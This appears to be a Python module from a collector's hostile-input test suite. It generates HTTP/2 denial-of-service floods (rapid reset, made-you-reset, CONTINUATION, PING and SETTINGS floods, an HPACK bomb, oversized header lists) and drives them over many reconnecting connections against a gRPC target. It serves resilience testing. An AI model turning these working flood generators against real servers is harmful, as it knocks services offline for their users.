"""Attacks by frames of HTTP/2 that cost the server more than the client (CVE-2023-44487, CVE-2024-27316, CVE-2019-9512
and its siblings), over connections that come again as often as they are cut."""

from __future__ import annotations

import asyncio
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any

from collector.otlp.signals import TRACES
from tests.hostile.actor import Target, ready
from tests.hostile.slow import GREETING, connect
from tests.hostile.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    grpc_fields,
    literal,
    message,
    setting,
)

BATCH = 200
"""Frames that are written at a time."""
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def resets() -> Iterator[tuple[bytes, int]]:
    """Calls that are opened and reset at once."""
    block = grpc_fields(TRACES)
    for first in range(1, 2**31, 2 * BATCH):
        numbers = range(first, first + 2 * BATCH, 2)
        yield (
            b"".join(frame(HEADERS, END_HEADERS, n, block) + frame(RST_STREAM, 0, n, b"\0\0\0\x08") for n in numbers),
            BATCH,
        )


def made_resets() -> Iterator[tuple[bytes, int]]:
    """Calls that the server is made to reset (CVE-2025-8671): a window update of 0 behind each."""
    block = grpc_fields(TRACES)
    for first in range(1, 2**31, 2 * BATCH):
        numbers = range(first, first + 2 * BATCH, 2)
        yield (
            b"".join(frame(HEADERS, END_HEADERS, n, block) + frame(WINDOW_UPDATE, 0, n, bytes(4)) for n in numbers),
            BATCH,
        )


def continuations() -> Iterator[tuple[bytes, int]]:
    """A header block that does not end."""
    yield frame(HEADERS, 0, 1, grpc_fields(TRACES)), 1
    part = frame(CONTINUATION, 0, 1, literal("x-more", "a" * 100) * 20)
    while True:
        yield part, 1


def empty_continuations() -> Iterator[tuple[bytes, int]]:
    """A header block of which nothing comes."""
    yield frame(HEADERS, 0, 1, grpc_fields(TRACES)), 1
    while True:
        yield frame(CONTINUATION, 0, 1) * BATCH, BATCH


def pings() -> Iterator[tuple[bytes, int]]:
    """PING, which wants an answer each time."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * BATCH, BATCH


def settings() -> Iterator[tuple[bytes, int]]:
    """SETTINGS, which want an acknowledgement each time."""
    while True:
        yield frame(SETTINGS, 0, 0, setting(4, 65535) * 10) * BATCH, BATCH


def empty_data() -> Iterator[tuple[bytes, int]]:
    """DATA frames without data on an open call."""
    yield frame(HEADERS, END_HEADERS, 1, grpc_fields(TRACES)), 1
    while True:
        yield frame(DATA, 0, 1) * BATCH, BATCH


def small_frames() -> Iterator[tuple[bytes, int]]:
    """PRIORITY, WINDOW_UPDATE and frames of no known type."""
    some = frame(PRIORITY, 0, 1, bytes(3) + b"\x03\x10") + frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") + frame(0x33, 0, 0)
    while True:
        yield some * BATCH, 3 * BATCH


def bomb() -> Iterator[tuple[bytes, int]]:
    """A field of 4 KiB that goes into the table, and thousands of references of a byte to it."""
    value = b"a" * 3000
    entry = b"\x40\x01x" + b"\x7f" + _rest(len(value) - 127) + value
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, grpc_fields(TRACES) + entry), 1
    number = 3
    while True:
        yield frame(HEADERS, END_HEADERS | END_STREAM, number, grpc_fields(TRACES) + b"\xbe" * 15_000), 1
        number += 2


def lists() -> Iterator[tuple[bytes, int]]:
    """Header lists above the limit, in one frame each."""
    block = grpc_fields(TRACES) + literal("x-more", "a" * 100) * 180
    for number in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, number, block), 1


def empty_calls() -> Iterator[tuple[bytes, int]]:
    """Whole calls with an empty message, as fast as they are taken: the cost of a request with none of its bytes."""
    block = grpc_fields(TRACES)
    for first in range(1, 2**31, 2 * BATCH):
        numbers = range(first, first + 2 * BATCH, 2)
        yield (
            b"".join(frame(HEADERS, END_HEADERS, n, block) + frame(DATA, END_STREAM, n, message(b"")) for n in numbers),
            BATCH,
        )


def _rest(value: int) -> bytes:
    out = bytearray()
    while value > 127:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


FLOODS: dict[str, Callable[[], Iterator[tuple[bytes, int]]]] = {
    "rapid reset": resets,
    "made-you-reset": made_resets,
    "CONTINUATION": continuations,
    "empty CONTINUATION": empty_continuations,
    "PING": pings,
    "SETTINGS": settings,
    "empty DATA": empty_data,
    "small frames": small_frames,
    "HPACK bomb": bomb,
    "header list": lists,
    "empty calls": empty_calls,
}


async def frames(target: Target, flood: str = "", connections: int = 20, most: int = 0) -> dict[str, Any]:
    """Send one of `FLOODS`, or all in turn, over so many connections; `most` frames, or until the end."""
    chosen = [flood] if flood else list(FLOODS)
    sent = cut = 0
    reasons: Counter[str] = Counter()
    ready()

    async def run(index: int) -> None:
        nonlocal sent, cut
        while not target.until.is_set() and not 0 < most <= sent:
            try:
                raw = await connect(target.grpc)
            except OSError:
                await asyncio.sleep(0.01)
                continue
            await raw.send(GREETING)
            for data, count in FLOODS[chosen[index % len(chosen)]]():
                if target.until.is_set() or 0 < most <= sent:
                    break
                if not await _send(raw, data, target.until):
                    break
                sent += count
                await asyncio.sleep(0)
            else:
                continue
            if not target.until.is_set() and not 0 < most <= sent:
                cut += 1
                reasons[_reason(raw.begin)] += 1
            raw.abort()

    tasks = [asyncio.create_task(run(index)) for index in range(connections)]
    await target.until.wait()
    await asyncio.gather(*tasks)
    return {"frames": sent, "cut": cut, "reasons": dict(reasons)}


async def _send(raw: Any, data: bytes, until: asyncio.Event) -> bool:
    """Send, or give up at the end."""
    sending = asyncio.create_task(raw.send(data))
    ended = asyncio.create_task(until.wait())
    await asyncio.wait((sending, ended), return_when=asyncio.FIRST_COMPLETED)
    ended.cancel()
    if not sending.done():
        sending.cancel()
        return False
    return sending.result()


def _reason(data: bytes) -> str:
    """Return the code of the GOAWAY among the first frames that came."""
    at = 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at : at + 3], "big")
        if data[at + 3] == GOAWAY:
            code = int.from_bytes(data[at + 13 : at + 17], "big")
            return CODES.get(code, str(code))
        at += 9 + length
    return "without a word"
